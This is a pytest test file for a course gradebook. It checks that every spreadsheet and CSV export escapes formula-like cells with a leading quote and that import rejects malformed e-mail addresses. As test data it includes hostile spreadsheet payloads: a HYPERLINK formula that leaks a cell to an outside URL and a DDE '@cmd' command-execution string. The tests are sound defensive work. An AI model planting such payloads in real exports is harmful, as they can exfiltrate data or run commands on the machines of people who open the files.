"""No export holds a formula: a hostile roster name and an e-mail starting with @ reach the admission CSV,
the Excel CSV, the XLSX, the set-password links CSV, the points template and the admins' web downloads as
text that begins with a single quote (OWASP), XLSX text is always a string cell, numbers we wrote stay
numbers, and the honest students' rows are exactly what they were. Bad e-mail addresses are refused on
import with the file and row."""
from __future__ import annotations

import csv
import io
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import update

from gb_helpers import autograded
from gradebook.admission.rule import compute_standings
from gradebook.course.spreadsheet import FORMULA_START, Number, cell
from gradebook.errors import InputError
from gradebook.exports.admission_list import write_csv, write_excel_csv, write_xlsx
from gradebook.exports.links import write_links_csv
from gradebook.people.accounts import issue_links
from gradebook.people.groups import add_staff
from gradebook.people.roster import import_students
from gradebook.points.paper import write_template
from gradebook.store import nbgrader_tables as nt
from gradebook.store.db import atomic, open_gradebook
from web.testing import ensure_account

HOSTILE = '=HYPERLINK("http://x?leak="&A2,"open")'
ROSTER = ("student_id,last_name,first_name,email,matriculation\n"
          "ab1,Müller,Anna,ab1@uni.de,3700001\n"
          'cd2,"García, Jr.",Carlos,cd2@uni.de,3700002\n'
          "ef3,O'Brien,Eve,ef3@uni.de,3700003\n"
          f'gh4,"{HOSTILE.replace(chr(34), chr(34) * 2)}",+Mallory,gh4@uni.de,3700004\n'
          "ij5,-Smith,@Jo,ij5@uni.de,3700005\n")
HONEST = {"ab1": ["Müller", "Anna", "ab1@uni.de"], "cd2": ["García, Jr.", "Carlos", "cd2@uni.de"],
          "ef3": ["O'Brien", "Eve", "ef3@uni.de"]}


@pytest.fixture
def course(gradebook_course: Any) -> Any:
    cfg = gradebook_course
    (cfg.root / "roster.csv").write_text(ROSTER, encoding="utf-8")
    engine = open_gradebook(cfg.db_url)
    import_students(engine, cfg.root / "roster.csv")
    # an address the import now refuses, already in the database (an older gradebook, nbgrader's own table)
    with atomic(engine) as session:
        session.execute(update(nt.student).where(nt.student.c.id == "gh4").values(email="@cmd|' /C calc'!A0"))
    autograded(cfg, "tiny01", "ab1", Fraction(1), Fraction(2))
    autograded(cfg, "tiny01", "gh4", Fraction(1), Fraction(1))
    return cfg


def _dangerous(text: str) -> bool:
    return text.startswith(FORMULA_START)


def _check_rows(rows: list[list[str]], name_col: int = 1) -> None:
    by_id = {r[0]: r for r in rows[1:]}
    for row in rows:
        assert not any(_dangerous(c) for c in row), row
    assert by_id["gh4"][name_col] == "'" + HOSTILE and by_id["gh4"][name_col + 1] == "'+Mallory"
    assert by_id["ij5"][name_col] == "'-Smith" and by_id["ij5"][name_col + 1] == "'@Jo"
    for sid, (last, first, _email) in HONEST.items():
        assert by_id[sid][name_col:name_col + 2] == [last, first]


def test_admission_csv_excel_csv_and_xlsx(course: Any, tmp_path: Path) -> None:
    standings = compute_standings(open_gradebook(course.db_url), course)
    plain = list(csv.reader(write_csv(standings, tmp_path / "a.csv").read_text(encoding="utf-8").splitlines()))
    excel = list(csv.reader(write_excel_csv(standings, tmp_path / "e.csv").read_text(encoding="utf-8-sig")
                            .splitlines(), delimiter=";"))
    for rows in (plain, excel):
        _check_rows(rows)
        by_id = {r[0]: r for r in rows[1:]}
        assert by_id["gh4"][3] == "'@cmd|' /C calc'!A0"
        assert [by_id[s][3] for s in HONEST] == [e for _l, _f, e in HONEST.values()]
    head = plain[0]
    assert plain[1:] and all(r[head.index("max_points")] == "32" for r in plain[1:])  # numbers as we wrote them
    assert {r[0]: r[head.index("points")] for r in plain[1:]}["ab1"] == "0"  # nothing decided yet: 0 counts

    from openpyxl import load_workbook

    ws = load_workbook(write_xlsx(standings, tmp_path / "a.xlsx")).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # not a single formula cell
    texts = [c for c in cells if isinstance(c.value, str)]
    assert all(c.data_type == "s" and not _dangerous(c.value) for c in texts)
    values = {row[0].value: [c.value for c in row] for row in ws.iter_rows(min_row=2)}
    assert values["gh4"][1:4] == ["'" + HOSTILE, "'+Mallory", "'@cmd|' /C calc'!A0"]
    assert values["ij5"][1:3] == ["'-Smith", "'@Jo"]
    assert {s: values[s][1:4] for s in HONEST} == HONEST
    assert values["ab1"][head.index("max_points")] == 32  # numbers stay number cells
    assert ws.cell(row=2, column=head.index("max_points") + 1).data_type == "n"


def test_links_and_points_template(course: Any, tmp_path: Path) -> None:
    engine = open_gradebook(course.db_url)
    for sid in ("ab1", "ef3", "gh4", "ij5"):
        ensure_account(engine, sid)
    out = io.StringIO()
    assert write_links_csv(issue_links(engine, ["ab1", "ef3", "gh4", "ij5"], "https://grading.example.org", 24, "t"),
                           out, "Europe/Berlin") == 4
    rows = list(csv.reader(out.getvalue().splitlines()))
    assert not any(_dangerous(c) for r in rows for c in r)
    by_id = {r[0]: r for r in rows[1:]}
    assert by_id["gh4"][1:3] == ["'+Mallory " + HOSTILE, "'@cmd|' /C calc'!A0"]
    assert by_id["ab1"][1:3] == ["Anna Müller", "ab1@uni.de"] and by_id["ef3"][1] == "Eve O'Brien"
    assert all(r[3].startswith("https://grading.example.org/password/") for r in rows[1:])

    n = write_template(engine, course.manifest("tiny01"), tmp_path / "t.csv")
    template = list(csv.reader((tmp_path / "t.csv").read_text(encoding="utf-8").splitlines()))
    assert n == len(template) - 1 and not any(_dangerous(c) for r in template for c in r)
    names = {r[0]: r[4:6] for r in template[1:]}
    assert names["gh4"] == ["'" + HOSTILE, "'+Mallory"] and names["ij5"] == ["'-Smith", "'@Jo"]
    assert names["ef3"] == ["O'Brien", "Eve"] and names["cd2"] == ["García, Jr.", "Carlos"]


def test_the_web_downloads(course: Any) -> None:
    from web.app import create_app
    from web.testing import logged_in, setup_web_course

    setup_web_course(course)
    admin = logged_in(create_app(course), "boss")
    for sid in ("ab1", "gh4"):
        ensure_account(admin.app.state.engine, sid)
    rows = list(csv.reader(admin.get("/admin/admission.csv").text.splitlines()))
    _check_rows(rows)
    links = admin.post("/admin/accounts/links", data={"usernames": "gh4 ab1"})
    assert links.status_code == 200
    got = {r[0]: r for r in csv.reader(links.text.splitlines())}
    assert got["gh4"][1] == "'+Mallory " + HOSTILE and got["ab1"][1] == "Anna Müller"


def test_bad_email_addresses_refused_on_import_with_file_and_row(gradebook_course: Any, tmp_path: Path) -> None:
    engine = open_gradebook(gradebook_course.db_url)
    roster = tmp_path / "roster.csv"
    roster.write_text("student_id,last_name,first_name,email\nzz1,Ok,Olga,zz1@uni.de\nzz2,Evil,Eve,@SUM(1+1)\n"
                      "zz3,Bad,Bob,=1+1@x.de\nzz4,Fine,Fred,fred.o'neil+mlph@physik.uni-heidelberg.de\n",
                      encoding="utf-8")
    with pytest.raises(InputError) as err:
        import_students(engine, roster)
    assert f"{roster}:3: student 'zz2': e-mail '@SUM(1+1)'" in str(err.value)
    assert f"{roster}:4: student 'zz3'" in str(err.value) and "zz4" not in str(err.value)
    groups = tmp_path / "groups.csv"
    groups.write_text("group,name,tutor_id,tutor_name,tutor_email\ng9,G9,t9,Tutor Nine,+t9@uni.de\n", encoding="utf-8")
    from gradebook.people.groups import import_groups

    with pytest.raises(InputError, match=rf"{groups}:2: group 'g9': tutor e-mail '\+t9@uni.de'"):
        import_groups(engine, groups)
    with pytest.raises(InputError, match="staff 'x1': e-mail '@x'"):
        add_staff(engine, "x1", "X", "@x", "tutor", "test")


def test_the_guard_itself() -> None:
    assert [cell(v) for v in ("=1+1", "+1", "-Smith", "@SUM(A1)", "\tx", "\rx", "O'Brien", "", None)] == [
        "'=1+1", "'+1", "'-Smith", "'@SUM(A1)", "'\tx", "'\rx", "O'Brien", "", None]
    assert cell(Number("-1.5")) == "-1.5" and cell(-2) == -2 and cell(Fraction(-1, 2)) == Fraction(-1, 2)
